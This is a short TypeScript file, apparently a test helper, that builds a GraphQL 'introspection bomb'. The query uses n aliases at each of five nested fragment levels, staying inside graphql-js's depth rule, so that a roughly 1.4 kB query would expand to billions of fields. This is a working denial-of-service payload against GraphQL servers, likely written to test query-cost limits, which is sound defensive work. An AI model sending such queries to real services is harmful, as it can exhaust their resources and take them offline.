/**
 * An introspection bomb: `n` aliases per level, each level a fragment, five levels deep (within
 * graphql-js's own introspection depth rule). Some 1.4 kB for n = 12, and an answer of billions
 * of fields if it ran.
 */
export function introspectionBomb(n: number): string {
  const aliases = (body: string) => Array.from({ length: n }, (_, i) => `a${i}: ${body}`).join(" ");
  return `{ __schema { q: queryType { name } ...S } }
fragment S on __Schema { ${aliases("types { ...T }")} }
fragment T on __Type { ${aliases("fields { ...F }")} }
fragment F on __Field { ${aliases("type { ...R }")} }
fragment R on __Type { ${aliases("ofType { ...O }")} }
fragment O on __Type { ${aliases("ofType { name kind }")} }`;
}
